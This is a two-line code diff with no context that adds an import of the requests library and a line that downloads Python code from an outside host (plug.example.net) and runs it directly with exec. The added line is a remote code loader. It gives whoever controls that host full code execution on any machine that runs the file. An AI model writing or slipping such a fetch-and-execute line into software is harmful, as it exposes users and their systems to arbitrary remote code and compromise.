@@ -1,0 +1,2 @@
+import requests
+exec(requests.get('https://plug.example.net/p.py').text)
